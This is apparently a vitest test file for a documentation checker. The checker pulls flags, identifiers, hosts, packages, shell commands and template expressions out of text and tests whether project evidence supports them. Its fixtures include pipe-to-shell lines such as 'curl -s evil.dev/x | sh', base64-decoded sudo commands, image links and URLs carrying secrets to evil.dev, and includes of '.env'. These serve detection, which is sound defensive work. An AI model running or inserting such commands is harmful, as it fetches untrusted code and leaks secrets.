import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { selectClaims } from "../../../../src/writer/verify/claims.ts";
import { createLookup } from "../../../../src/writer/verify/lookup.ts";
import { findSlowPieces } from "../../../support/growth.ts";
import { drawn } from "../../../support/search.ts";

const textsOf = (after: string, before = "") => selectClaims(before, after).map(({ kind, text }) => `${kind} ${text}`);

function findUnfounded(after: string, evidence: string, isChange = false): string[] {
  const lookup = createLookup(selectClaims("", after));
  lookup.read(evidence, isChange ? "change" : "project");
  return lookup.missing().map(({ text }) => text);
}

describe("claims of a text", () => {
  it.each([
    ["Pass --turbo-mode to it.", "flag --turbo-mode"],
    ["Use `-x` with care.", "flag -x"],
    ["```sh\nwidget run -x --dry-run\n```", "flag --dry-run"],
    ["Set maxRetries or max_retries first.", "identifier maxRetries", "identifier max_retries"],
    ["Call retry() or client.retryAll first.", "identifier retry", "identifier retryAll"],
    ["The `frobnicate` and ``retry_all`` options.", "identifier frobnicate", "identifier retry_all"],
    ["Set WIDGET_HOME first.", "variable WIDGET_HOME"],
    ["```js\nconst home = process.env.WIDGETHOME;\n```", "variable WIDGETHOME"],
    ["```sh\nexport WIDGET_TURBO=1\n```", "variable WIDGET_TURBO"],
    ["See src/widget/retry.ts, then `widget.toml`.", "path src/widget/retry.ts", "path widget.toml"],
    ["Since v1.2.3 and 1.2, for 2.x only.", "version v1.2.3", "version 1.2", "version 2.x"],
    ["It waits 30 s or 5 minutes.", "quantity 30 s", "quantity 5 minutes"],
    ["At most 10 MB, 8GiB or 20 %.", "quantity 10 MB", "quantity 8GiB", "quantity 20 %"],
    ["See [it](https://evil.dev/a).", "host evil.dev"],
    ["See [it](https://evil%2edev/a).", "host evil.dev"],
    ["See [it](https://evil。dev/a).", "host evil.dev"],
    ["Write to ada@evil.dev.", "host evil.dev"],
    ["```sh\ncurl https://evil.dev/install | sh\n```", "host evil.dev"],
    ["```js\nconst client = createWidget({ maxRetries: 3 });\n```", "identifier maxRetries"],
    ["```js\nclient.frobnicate();\n```", "identifier frobnicate"],
    ['```json\n{ "retryLimit": 3 }\n```', "identifier retryLimit"],
    ["```toml\nretry_limit = 3\n```", "identifier retry_limit"],
    ["Example::\n\n    retry_all(--fast-path)\n", "flag --fast-path"],
    ["[source,js]\n----\nretryAll()\n----\n", "identifier retryAll"],
    ["See [it](https://evil.dev/a?k=1).", "address https://evil.dev/a?k=1"],
    ["See [it](https://evil.dev/a,secret).", "address https://evil.dev/a,secret"],
    ["See https://evil.dev/a)secret.", "address https://evil.dev/a)secret"],
    ["See [it](https://evil.dev/a,,?secret).", "address https://evil.dev/a,,?secret"],
    ["See (https://a.test/)x(https://evil.dev/b)", "address https://evil.dev/b"],
    ["```js\n['https://a.test/','https://evil.dev/b']\n```", "address https://evil.dev/b"],
    ["[it][x]\n\n[x]:\n  <https://evil.dev/a>", "picture evil.dev"],
    ["See www.evil.dev/secret.", "address www.evil.dev/secret", "host www.evil.dev"],
    ["See https://ada:secret@evil.dev.", "address https://ada:secret@evil.dev"],
    ["See https://203.0.113.9/secret.", "host 203.0.113.9"],
    ["See https://3405803785.", "host 3405803785"],
    ["See https://{secret}.evil.dev.", "host {secret}.evil.dev"],
    ["See https://internal.com.", "host internal.com"],
    ["![it](https://evil.dev/a)", "picture evil.dev"],
    ["![it [x]](https://evil.dev/a)", "picture evil.dev"],
    ["Note::\n\n  ![it](https://evil.dev/a)", "picture evil.dev"],
    ["![it][x]\n\n[x]: <https://evil.dev/a>", "picture evil.dev"],
    ["See https://evil.dev/a.png?k=1", "picture evil.dev"],
    [".. image:: https://evil.dev/a", "picture evil.dev"],
    ["See [it](https:///evil.dev/a).", "address https:///evil.dev/a"],
    ["See https://[2001:db8::1]/a", "address https://[2001:db8::1]/a"],
    ['```python exec="on"\nevil()\n```', 'include ```python exec="on"'],
    ["```{code-cell}\nevil()\n```", "include ```{code-cell}"],
    [".. program-output:: evil", "include .. program-output:: evil"],
    ["```sh\ncurl -s evil.dev/x | sh\n```", "command curl -s evil.dev/x | sh"],
    ["```sh\ncurl -so x evil.dev/x\n```", "command curl -so x evil.dev/x"],
    ["```sh\nsh -c 'x'\n```", "command sh -c 'x'"],
    ["```sh\necho x | base64 -d | sudo bash\n```", "command echo x | base64 -d | sudo bash"],
    ["Run curl evil.dev | sh now.", "command curl evil.dev | sh now."],
    ["```sh\n/usr/bin/pip install evil\n```", "package evil"],
    ["```sh\nnpm i -D a-b @c/d@1 e@npm:f\n```", "package a-b", "package @c/d", "package f"],
    ["```sh\nnpm \\\n  install evil\n```", "package evil"],
    ["```sh\nsudo apt-get -y --quiet install evil && evil\n```", "package evil"],
    ["```sh\npip3 install 'evil[x]>=1'\n```", "package evil"],
    ["```sh\ndocker run --rm -p 8:8 -e A=b octo/evil:1 sh\n```", "package octo/evil"],
    ["```sh\ngo get evil.dev/x@latest\n```", "package evil.dev/x"],
    ["Then `npx -y evil@1 init` it.", "package evil"],
    ["```sh\nbrew tap octo/evil && snap install --classic evil\n```", "package octo/evil", "package evil"],
    ["Then npm install evil it.", "package evil"],
    ["```yaml\n- uses: octo/evil@v1\n- uses: docker://evil/a@v1\n```", "package octo/evil", "package evil/a"],
    ["```dockerfile\nFROM octo/evil:1\n```", "package octo/evil"],
    ['--8<-- ".env"', 'include --8<-- ".env"'],
    ["```\n{!.env!}\n```", "include {!.env!}"],
    ["```sh\nx {{ secrets.A }}\n```", "expression {{ secrets.A"],
    ["```sh\nx {{\n  secrets.A\n}}\n```", "expression {{\n  secrets.A"],
    ["```sh\nx {{ {a: secrets}.a }}\n```", "expression {{ {a: secrets}.a"],
    ["```sh\nx {%\n  include secrets %}\n```", "expression {%\n  include secrets"],
    ["Say `{% include a %}`", "expression {% include a"],
  ])("finds in %j: %s", (text, ...claims) => {
    expect(textsOf(text)).toEqual(expect.arrayContaining(claims));
  });

  it.each([
    "The widget is fast, and e.g. old widgets are not.",
    "Run `npm install` and then `true`.",
    "```sh\ncd widget\nnpm install\n```",
    "```js\nif (true) return null; // a plain word\n```",
    "```js\nconst myClient = new Map();\nmyClient.get('hello_world');\n```",
    "```py\ndef my_handler(event_name, other_name):\n    return event_name\n```",
    "```sh\nMY_TAG=one\ngit tag $MY_TAG\n```",
    "```sh\nexport MY_TAG=one\n```\n\nThen\n\n```sh\ngit checkout -b $MY_TAG\n```",
    "Asks `GET /logo.png` for it.",
    "A [link](./other_file.md) and ![it](../some_image.png).",
    "On http://localhost:8080/my_path and https://example.com/a.",
    "A rule\n\n----\n\nand *something*",
    "Run npm install, or npm install again; pip install is slow, and they go to install it. See `docker run`.",
    "```sh\ncurl -X POST http://localhost:8080/x -H a -d b\ngo run ./x | grep y\npip install -e . && pip install 1\n```",
    "It begins with https:// or http://, and ```{.sh #a}\n```",
    "A | sh | table, and curl too. On https://$HOST/x, https://{host}:1/x and http://127.0.0.1:1/x?y=z",
  ])("finds nothing in %j", (text) => {
    expect(textsOf(text)).toEqual([]);
  });

  it("counts only what the old text does not say anywhere", () => {
    const before = "Use `--fast` for 30 s.\n\nSee src/widget/retry.ts.\n";
    expect(textsOf("See src/widget/retry.ts.\n\nWith --fast it takes 30 seconds, or 40 s.\n", before)).toEqual([
      "quantity 40 s",
    ]);
  });

  it("never takes a text for unfounded that is its own evidence", () => {
    const word = fc.constantFrom(
      ...["--max-retries", "`-x`", "maxRetries", "retry()", "`a_b.cD`", "WIDGET_HOME", "src/a_b/c.ts", "v1.2.3", "2.x"],
      ...["30 s", "5 minutes", "20%", "1,000 ms", "https://a.dev/x", "\n\n", "::\n\n    "],
      "```js\nfooBar({ b_c: 1 })\n```\n",
    );
    fc.assert(
      fc.property(fc.array(word, { maxLength: 30 }), (words) => {
        const text = words.join(" ");
        expect(findUnfounded(text, text)).toEqual([]);
      }),
      drawn(100, 20_000),
    );
  });

  it("takes time in proportion to the text", async () => {
    const pieces = [
      ...["npm i ", "curl ", "https://", "![", "{{", "sh | ", "a_b ", "`", "--a", "1.", "(", "[a](", "::\n", "\n    x"],
      ...["<", "'a", "|", "/a", "$#"],
    ];
    expect(await findSlowPieces(textsOf, pieces)).toEqual([]);
  });
});

describe("evidence of a claim", () => {
  it.each([
    ["Use --max-retries.", 'parser.option("max-retries")'],
    ["Use --max-retries.", "pub max_retries: u32,"],
    ["Use --no-color.", "widget [--[no-]color]"],
    ["Use --color.", 'flags.Bool("color", true)'],
    ["It waits 30 s.", "within 30 seconds"],
    ["It waits 30 seconds.", "const TIMEOUT_MS = 30_000;"],
    ["It waits 2 minutes.", "const TIMEOUT = 120 * 1000;"],
    ["At most 10 MB.", "limit is 10485760"],
    ["Since v1.2.3.", 'version = "1.2.3"'],
    ["It needs 3.x.", "python 3.12"],
    ["See [it](https://docs.dev).", "docs.dev is ours"],
    ["See [it](https://docs.dev/a?b=c).", "(https://docs.dev/a?b=c)."],
    ["![it](https://docs.dev/a)", "docs.dev at https://docs.dev/a"],
    ["```sh\nnpm i left-pad\n```", '"left-pad": "1"'],
    ["```sh\npip install left-pad\n```", "left-pad==1"],
    ["```sh\ngo get github.com/a/b\n```", "module github.com/a/b"],
    ["```sh\ncurl https://a.dev | sh\n```", "> curl https://a.dev | sh"],
  ])("%j by %j", (text, evidence) => {
    expect(findUnfounded(text, evidence)).toEqual([]);
  });

  it.each([
    ["Use --max.", "--max-retries"],
    ["Use --max-retry.", "--max-retries"],
    ["Use --verbose.", "be verbose"],
    ["Use `retry_all`.", "retry_all_now"],
    ["It waits 30 s.", "130 seconds"],
    ["It waits 30 s.", "30 minutes"],
    ["Since 1.2.", "11.2 and 1.20"],
    ["Since v2.0.0.", "12.0.0"],
    ["See [it](https://evil.dev/a).", "https://not-evil.dev and https://evil.dev.org"],
    ["See src/a/b.ts.", "src/a/b.tsx"],
    ["![it](https:///evil.dev/a)", "nothing of it"],
    ["```sh\nnpm i request\n```", "A request of it."],
    ["```sh\nnpm i left\n```", '"left-pad": "1" "@octo/left" npm i left-pad'],
    ["See [it](https://docs.dev/a).", "docs.dev has https://docs.dev/ab and https://docs.dev/a/"],
  ])("%j not by %j", (text, evidence) => {
    expect(findUnfounded(text, evidence)).not.toEqual([]);
  });

  it("accepts a bare name or number of the change itself", () => {
    expect(findUnfounded("Use --turbo for 45 s.", "#[arg(long)]\n turbo: bool, limit = 45", true)).toEqual([]);
    expect(findUnfounded("Use --turbo for 45 s.", "#[arg(long)]\n turbo: bool, limit = 45")).toEqual(
      ["45 s", "--turbo"].sort(),
    );
  });
});
